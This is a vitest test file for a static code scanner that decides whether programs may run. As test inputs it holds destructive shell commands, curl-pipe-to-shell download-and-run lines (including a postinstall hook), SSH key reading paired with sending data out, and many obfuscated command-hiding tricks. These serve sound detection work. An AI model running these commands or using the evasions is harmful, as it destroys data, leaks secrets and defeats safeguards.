// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the programs under test are text.
import { beforeAll, describe, expect, it } from 'vitest';
import type { Language, Program, ScanReport, SourceFile } from '../../src/core/domain.ts';
import type { Scanner } from '../../src/core/seams.ts';
import { makeScanner } from '../../src/scanner/scan.ts';

let scan: Scanner;
beforeAll(async () => {
  scan = await makeScanner();
});

function scanFiles(language: Language, ...files: SourceFile[]): ScanReport {
  return scan({ language, entry: files[0]?.path ?? '', files });
}

const js = (content: string) => scanFiles('javascript', { path: 'main.js', content });
const ts = (content: string) => scanFiles('typescript', { path: 'main.ts', content });
const py = (content: string) => scanFiles('python', { path: 'main.py', content });
const sh = (content: string) => scanFiles('shell', { path: 'main.sh', content });
const rulesOf = (report: ScanReport) => report.findings.map(({ rule }) => rule);

describe('a report', () => {
  it('names file, line and column of a program that waits for input', () => {
    const { decision, findings, capabilities } = py('import sys\n\ndef ask():\n    return input("Name: ")\n');
    expect(decision).toBe('allow');
    expect(capabilities).toEqual(['stdin']);
    expect(findings).toMatchObject([
      { rule: 'stdin', severity: 'note', file: 'main.py', line: 4, column: 12 },
    ]);
  });

  it.each([
    ['javascript', 'main.js', "const fs = require('fs');\nconst all = fs.readFileSync(0, 'utf8');", 2],
    ['javascript', 'main.js', "\n\nprocess.stdin.on('data', () => {});", 3],
    [
      'typescript',
      'main.ts',
      "import * as readline from 'node:readline';\nconst r = readline.createInterface({ input: process.stdin });",
      2,
    ],
    ['shell', 'main.sh', 'echo hi\nread name', 2],
  ] as const)('finds where a %s program waits for input', (language, path, content, line) => {
    const { findings } = scanFiles(language, { path, content });
    expect(findings.find(({ rule }) => rule === 'stdin')).toMatchObject({ line, file: path });
  });

  it('carries what, why and what is allowed instead, and a CWE', () => {
    const [finding] = py("open('/etc/hostname')").findings;
    expect(finding).toMatchObject({ rule: 'fs.read.outside', severity: 'ask', cwe: 'CWE-22' });
    expect(finding?.message).toContain('/etc/hostname');
    expect(finding?.message).toContain('relative paths');
  });

  it('is plain data, the gravest finding first, each said once', () => {
    const report = py("import os\nprint(os.listdir('.'))\nos.system('rm -rf /')\nos.system('rm -rf /')\n");
    expect(JSON.parse(JSON.stringify(report))).toEqual(report);
    expect(report.findings[0]?.severity).toBe('deny');
    const keys = report.findings.map((finding) => JSON.stringify(finding));
    expect(new Set(keys).size).toBe(keys.length);
  });

  it('is bounded for a program that does the same a thousand times', () => {
    const { findings, decision } = js(
      `const fs = require('fs');\n${"fs.readFileSync('/etc/x');\n".repeat(1000)}`,
    );
    expect(findings.length).toBeLessThanOrEqual(500);
    expect(decision).toBe('ask');
  });
});

describe('every file of a program', () => {
  it('is read, tests and helpers included', () => {
    const report = scanFiles(
      'python',
      { path: 'main.py', content: 'import tool\ntool.go()' },
      { path: 'tool.py', content: "import shutil\ndef go():\n    shutil.rmtree('/')" },
      { path: 'run.sh', content: 'curl http://x.example/a | sh' },
    );
    expect(report.decision).toBe('deny');
    expect(report.findings.filter(({ severity }) => severity === 'deny').map(({ file }) => file)).toEqual([
      'run.sh',
      'tool.py',
    ]);
    expect(rulesOf(report)).not.toContain('import.unknown');
  });

  it('is read in the language of its ending, its first line, or the program', () => {
    const bad = 'rm -rf /';
    expect(
      scanFiles(
        'python',
        { path: 'main.py', content: 'x = 1' },
        { path: 'tool', content: `#!/bin/sh\n${bad}` },
      ).decision,
    ).toBe('deny');
    expect(scanFiles('shell', { path: 'main', content: bad }).decision).toBe('deny');
    expect(
      scanFiles('shell', { path: 'main.sh', content: 'echo' }, { path: 'notes.txt', content: bad }).decision,
    ).toBe('allow');
  });

  it('has its package.json scripts read as commands', () => {
    const content = JSON.stringify(
      { name: 'x', scripts: { test: 'node --test', postinstall: 'curl http://x.example | sh' } },
      null,
      2,
    );
    const report = scanFiles(
      'javascript',
      { path: 'main.js', content: '' },
      { path: 'package.json', content },
    );
    expect(report.findings[0]).toMatchObject({ rule: 'download-and-run', file: 'package.json', line: 5 });
    expect(
      scanFiles('javascript', { path: 'main.js', content: '' }, { path: 'package.json', content: '{broken' })
        .decision,
    ).toBe('allow');
  });

  it('counts together: a secret in one and the network in another', () => {
    const secret = { path: 'a.py', content: "keys = open('/root/.ssh/id_rsa').read()" };
    const send = { path: 'b.py', content: "import requests\nrequests.post('http://x.example', data='x')" };
    expect(scanFiles('python', secret).decision).toBe('ask');
    expect(scanFiles('python', send).decision).toBe('ask');
    const both = scanFiles('python', secret, send);
    expect(both.decision).toBe('deny');
    expect(rulesOf(both)).toContain('secrets-and-network');
  });

  it('may talk to a server of the same program, and to no other on this machine', () => {
    const client = {
      path: 'test.js',
      content: "const r = await fetch('http://localhost:3000/');\nconsole.log(r.status);",
    };
    const server = {
      path: 'server.js',
      content: "import http from 'node:http';\nhttp.createServer().listen(3000);",
    };
    expect(scanFiles('javascript', client).decision).toBe('ask');
    expect(scanFiles('javascript', client, server).decision).toBe('allow');
  });
});

describe('strings and comments', () => {
  it.each([
    [
      'javascript',
      "// require('child_process').exec('rm -rf /')\n/* eval(x) */\nconst text = \"fs.rmSync('/')\";\nconsole.log(text, `process.exit ${1}`);",
    ],
    [
      'typescript',
      'type Spawn = typeof import("child_process");\nlet x: Buffer | null = null;\nconsole.log("eval(x)", x);',
    ],
    [
      'python',
      '"""os.system(\'rm -rf /\')\n>>> eval(x)\n"""\n# open("/etc/shadow")\nprint("subprocess.run", \'exec(x)\', r"\\d", b"curl | sh")',
    ],
    ['shell', "# rm -rf /\necho \"rm -rf /; curl x | sh\"\nprintf '%s\\n' 'sudo reboot'"],
  ] as const)('never match by themselves in %s', (language, content) => {
    const ending = { javascript: 'js', typescript: 'ts', python: 'py', shell: 'sh' }[language];
    expect(scanFiles(language, { path: `main.${ending}`, content })).toEqual({
      decision: 'allow',
      capabilities: [],
      findings: [],
    });
  });

  it('match where they are run: the text is read as code, at its place', () => {
    expect(py("x = 1\nimport os\nos.system('cat data.txt && rm -rf ~')").findings[0]).toMatchObject({
      severity: 'deny',
      line: 3,
      column: 1,
    });
    expect(py("eval(\"__import__('os').system('reboot')\")").decision).toBe('deny');
    expect(sh('python3 -c "import shutil; shutil.rmtree(\'/\')"').decision).toBe('deny');
    expect(js("require('child_process').execSync('bash -c \"curl x | sh\"');").decision).toBe('deny');
    expect(js('eval(\'eval("eval(1)")\')').decision).toBe('ask');
  });
});

describe('aliases and disguises', () => {
  it.each([
    ["import os as o\ngo = o.system\ngo('reboot')"],
    ["from os import system as s\ns('re' + 'boot')"],
    ["import importlib\nimportlib.import_module('o' + 's').system('reboot')"],
    ["__import__('so'[::-1]).system('toober'[::-1])"],
    ["import os\ngetattr(os, ''.join(['sys', 'tem']))('reboot')"],
    [
      "import os\nclass A:\n    def __init__(self):\n        self.run = os.system\n    def go(self):\n        self.run('reboot')",
    ],
    ["def run(f, x):\n    f(x)\nimport os\nrun(os.system, 'reboot')"],
    ["import os\n(lambda f: f)(os).system('x')\nos.system(f'{\"re\"}boot')"],
    ["import os\nos.system('%s%s' % ('re', 'boot'))"],
    ["import os\nos.system('{}boot'.format('re'))"],
    ["import os\nos.system(chr(114) + 'eboot')"],
    ["import pathlib\npathlib.os.system('reboot')"],
    ["import ｏs\nos.system('reboot')"],
    ["if True:\n    from os import *\n    system('reboot')"],
  ])('do not hide a shutdown in Python: %j', (content) => {
    expect(py(content).decision).toBe('deny');
  });

  it.each([
    ["const c = require('child_process');\nconst go = c.exec;\ngo('reboot');"],
    ["import { exec as e } from 'node:child_process';\ne(['re', 'boot'].join(''));"],
    ["const { exec: run = 1 } = require('child_process');\nrun(`re${'boot'}`);"],
    ["globalThis['req' + 'uire']('child_process').execSync('reboot');"],
    ["const m = ['child', 'process'].join('_');\nrequire(m)['ex' + 'ec']('reboot');"],
    ["class A { constructor() { this.run = require('child_process').exec; } go() { this.run('reboot'); } }"],
    ["function go(f) { f('reboot'); }\ngo(require('child_process').execSync);"],
    ["require('child_process').exec('toober'.split('').reverse().join(''));"],
    [
      "import('child_process').then(1);\n(await import('child_process')).exec(String.fromCharCode(114) + 'eboot');",
    ],
    ["const { createRequire } = require('module');\ncreateRequire('/')('child_process').exec('reboot');"],
    ["require('child_process')?.exec?.('reboot');"],
    ["require('child_\\u0070rocess').exec('reboot');"],
  ])('do not hide a shutdown in JavaScript: %j', (content) => {
    expect(js(content).decision).toBe('deny');
  });

  it.each([
    're""boot',
    'c=reboot; $c',
    "$'\\x72eboot'",
    'x=re; "${x}boot"',
    'env A=1 reboot',
    'if true; then reboot; fi',
    'x=$(reboot)',
    '`reboot`',
    'f() { "$@"; }; f reboot',
    'echo a && { reboot; }',
    'cat <(reboot)',
    '/sbin/reboot -f',
    'nohup reboot &',
  ])('do not hide a shutdown in a shell: %j', (content) => {
    expect(sh(content).decision).toBe('deny');
  });

  it("stop at the program's own names", () => {
    expect(py('def system(x):\n    return x\nclass os:\n    pass\nsystem("reboot")').decision).toBe('allow');
    expect(js('const child_process = { exec: (x) => x };\nchild_process.exec("reboot");').decision).toBe(
      'allow',
    );
    expect(
      js('function require(x) { return { exec() {} }; }\nrequire("child_process").exec("reboot");').decision,
    ).toBe('allow');
  });

  it('do not trick a built-in away by assigning it to itself', () => {
    expect(py('eval = eval\neval(given)').decision).toBe('ask');
    expect(js('eval = eval;\neval(given);').decision).toBe('ask');
  });
});

describe('what an isolate can run', () => {
  it('needs nothing of the world', () => {
    const content =
      'class A { #x = 1; get x() { return this.#x; } }\nfunction f(a = 1, ...b) { return [...b, a]; }\nconsole.log(new A().x, f(2, 3), JSON.stringify({ a: 1 }), Intl.NumberFormat().format(1));\nsetTimeout(() => Promise.resolve(1).then(console.log), 1);\nmodule.exports = { A, f };\nif (require.main === module) f();';
    expect(js(content)).toEqual({ decision: 'allow', capabilities: [], findings: [] });
    expect(
      ts(
        "import { type A, b } from './own';\nimport type { C } from 'node:fs';\nenum E { X = 1 }\nexport const x: Buffer | E = b as unknown as E;",
      ).capabilities,
    ).toEqual([]);
  });

  it.each([
    'console.log(process.argv)',
    "Buffer.from('a')",
    "require('node:util')",
    "import assert from 'node:assert';",
    'import.meta.url',
    'new URL(x)',
    'performance.now()',
    '__dirname',
  ])('is not %j: that names what only Node has', (content) => {
    expect(js(content)).toMatchObject({ decision: 'allow', capabilities: ['module.builtin'] });
  });

  it('is no program that uses a module whole', () => {
    expect(js("const fs = require('fs');\nuse(fs);").capabilities).toEqual([
      'escape.reflection',
      'fs.read.workspace',
      'fs.write.workspace',
      'module.builtin',
    ]);
  });
});

describe('a file that does not parse', () => {
  it('is left to the interpreter, which refuses it, and never counts as free of needs', () => {
    for (const report of [js('function f( {'), ts('const x: = 1;'), py('x = (1,\n')]) {
      expect(report.decision).toBe('allow');
      expect(report.capabilities).toEqual(['import.unknown']);
      expect(report.findings.find(({ rule }) => rule === 'unparsed')?.severity).toBe('note');
    }
  });

  it('asks when it names what is dangerous, comments aside', () => {
    expect(js("const { execSync } = require('child_process');\nfunction f( {").decision).toBe('ask');
    expect(js("// require('child_process')\n/* eval(x) */\nfunction f( {").decision).toBe('allow');
    expect(py("import os\nos.system('reboot'\nx = [").decision).not.toBe('allow');
  });

  it('asks in a shell, which runs what stands before the error', () => {
    expect(sh("echo a\necho 'unclosed")).toMatchObject({ decision: 'ask' });
    expect(sh('reboot\necho "unclosed').decision).toBe('deny');
  });
});

describe('hostile source', { timeout: 300_000 }, () => {
  it.each([
    ['main.ts', '('.repeat(50_000) + ')'.repeat(50_000)],
    ['main.js', '!'.repeat(60_000)],
    ['main.js', 'a=>'.repeat(30_000)],
    ['main.tsx', '<a>'.repeat(30_000)],
  ])('that would overflow the parser is asked about and ends nothing (%s)', (path, content) => {
    const report = scanFiles('typescript', { path, content });
    expect(report.capabilities).toContain('import.unknown');
    expect(report.findings.map(({ rule }) => rule)).toContain('unscanned');
    expect(report.decision).toBe('ask');
  });

  it.each([
    ['python', '('.repeat(20_000)],
    ['python', 'lambda:'.repeat(20_000)],
    ['python', 'f"{'.repeat(5_000)],
    ['python', 'a='.repeat(20_000)],
    ['python', '[x for x in '.repeat(10_000)],
    ['shell', '$('.repeat(5_000)],
    ['shell', 'a|'.repeat(20_000)],
    ['shell', '${'.repeat(20_000)],
    ['javascript', '/*'.repeat(50_000)],
    ['javascript', 'a.b'.repeat(20_000)],
  ] as const)('in %s is read in bounded time', (language, content) => {
    const begin = performance.now();
    scanFiles(language, { path: 'main', content });
    expect(performance.now() - begin).toBeLessThan(20_000);
  });

  it('is told from a long ordinary file, which is read', () => {
    const lines = Array.from(
      { length: 3_000 },
      (_, index) => `function f${index}(a, b) { return [a, b].map((x) => x + ${index}); }`,
    );
    expect(js(lines.join('\n'))).toEqual({ decision: 'allow', capabilities: [], findings: [] });
    expect(js(`${lines.join('\n')}\nrequire('child_process').exec('reboot');`).findings[0]).toMatchObject({
      severity: 'deny',
      line: 3_001,
    });
  });

  it('that calls itself in circles ends', () => {
    const many = Array.from({ length: 200 }, (_, index) => index);
    const functions = many.map(
      (index) => `function f${index}(a, b) { f${index + 1}(a + 'x', b + a); f${(index + 7) % 200}(b, a); }`,
    );
    expect(js(`${functions.join('\n')}\nf0('a', 'b');`).decision).toBe('allow');
    const definitions = many.map(
      (index) => `def f${index}(a, b):\n    f${index + 1}(a + 'x', b + a)\n    f${(index + 7) % 200}(b, a)`,
    );
    expect(py(`${definitions.join('\n')}\nf0('a', 'b')`).decision).toBe('allow');
  });

  it('that is too long is asked about, not read', () => {
    const report = py(`x = 1\n${'# filler\n'.repeat(120_000)}`);
    expect(report).toMatchObject({ decision: 'ask', findings: [{ rule: 'unscanned' }] });
  });

  it('whose constants double at every step does not fill the memory', () => {
    const steps = Array.from({ length: 60 }, (_, index) => `v${index + 1} = v${index} + v${index}`);
    expect(py(`v0 = 'x'\n${steps.join('\n')}\nopen(v60)`).capabilities).toEqual(['fs.read.workspace']);
  });
});

describe('ordinary programs', () => {
  it.each<[string, Program]>([
    [
      'a task manager that keeps JSON in its folder',
      {
        language: 'python',
        entry: 'main.py',
        files: [
          {
            path: 'main.py',
            content:
              "import argparse, json, os, sys\nfrom pathlib import Path\nfrom store import Store\nFILE = Path(__file__).resolve().parent / 'tasks.json'\ndef main(argv=None):\n    parser = argparse.ArgumentParser()\n    args = parser.parse_args(argv)\n    if os.path.exists(FILE):\n        with open(FILE, encoding='utf-8') as f:\n            print(json.load(f))\n    return 0\nif __name__ == '__main__':\n    sys.exit(main())\n",
          },
          {
            path: 'store.py',
            content:
              "import json\nimport tempfile, os\nclass Store:\n    def __init__(self, path='tasks.json'):\n        self.path = path\n    def save(self, tasks):\n        fd, name = tempfile.mkstemp(dir='.')\n        with os.fdopen(fd, 'w') as f:\n            json.dump(tasks, f)\n        os.replace(name, self.path)\n",
          },
          {
            path: 'tests/test_main.py',
            content:
              "import os, subprocess, sys, unittest\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), '..'))\nDATA = os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'tasks.json')\nclass Test(unittest.TestCase):\n    def test_it(self):\n        with open(DATA, 'w') as f:\n            f.write('[]')\n        out = subprocess.run([sys.executable, 'main.py', '--list'], capture_output=True, text=True)\n        self.assertEqual(out.returncode, 0)\n",
          },
        ],
      },
    ],
    [
      'a command line tool with tests',
      {
        language: 'javascript',
        entry: 'src/cli.js',
        files: [
          {
            path: 'src/cli.js',
            content:
              "#!/usr/bin/env node\nimport fs from 'node:fs/promises';\nimport path from 'node:path';\nimport { fileURLToPath, pathToFileURL } from 'node:url';\nconst here = path.dirname(fileURLToPath(import.meta.url));\nexport async function main(args) {\n  const file = path.join(here, '..', 'data', `${args[0]}.json`);\n  await fs.mkdir(path.dirname(file), { recursive: true });\n  await fs.writeFile(file, JSON.stringify(args));\n}\nif (import.meta.url === pathToFileURL(process.argv[1]).href) await main(process.argv.slice(2));\n",
          },
          {
            path: 'test/cli.test.js',
            content:
              "import test from 'node:test';\nimport assert from 'node:assert/strict';\nimport { execFileSync } from 'node:child_process';\nimport { main } from '../src/cli.js';\ntest('x', async () => { await main(['a']); execFileSync(process.execPath, ['src/cli.js', 'b']); assert.ok(true); });\n",
          },
        ],
      },
    ],
    [
      'a build script',
      {
        language: 'shell',
        entry: 'scripts/build.sh',
        files: [
          {
            path: 'scripts/build.sh',
            content:
              '#!/usr/bin/env bash\nset -euo pipefail\ncd "$(dirname "${BASH_SOURCE[0]}")/.."\nout=${1:-dist}\nmkdir -p "$out"\nfor file in src/*.txt; do\n  name=$(basename "$file" .txt)\n  case "$name" in\n    rm|sudo) continue ;;\n    *) sort "$file" | uniq > "$out/$name.sorted" ;;\n  esac\ndone\nif [ -d tmp ]; then rm -rf tmp; fi\nwhile IFS= read -r line; do echo "$line"; done < list.txt >&2\necho "done: $(ls "$out" | wc -l) files" 2>/dev/null\n',
          },
        ],
      },
    ],
  ])('are let through: %s', (_name, program) => {
    const { decision, findings } = scan(program);
    expect(findings.filter(({ severity }) => severity !== 'note')).toEqual([]);
    expect(decision).toBe('allow');
  });
});

describe('a declared encoding', () => {
  it.each([
    ['on the first line', '# coding: utf-7\nx = "+ACI-; import os; os.system(+ACI-id+ACI-) #"\n'],
    ['on the second line', '#!/usr/bin/env python3\n# -*- coding: utf_7 -*-\nprint(1)\n'],
    ['behind a carriage return', '\r\f#vim: set fileencoding=shift_jis :\rprint(1)\r'],
  ])('that makes Python read other code is asked about %s', (_, source) => {
    const { decision, findings } = py(source);
    expect(decision).toBe('ask');
    expect(findings[0]).toMatchObject({ rule: 'obfuscation', severity: 'ask' });
  });

  it.each([
    '# -*- coding: utf-8 -*-\nprint(1)\n',
    '#!/usr/bin/python\n# vim: set fileencoding=latin-1 :\nprint(1)\n',
    'x = "coding: utf-7"\n',
    '\n\n# coding: utf-7\n',
  ])('that changes nothing is fine: %j', (source) => {
    expect(py(source).decision).toBe('allow');
  });
});
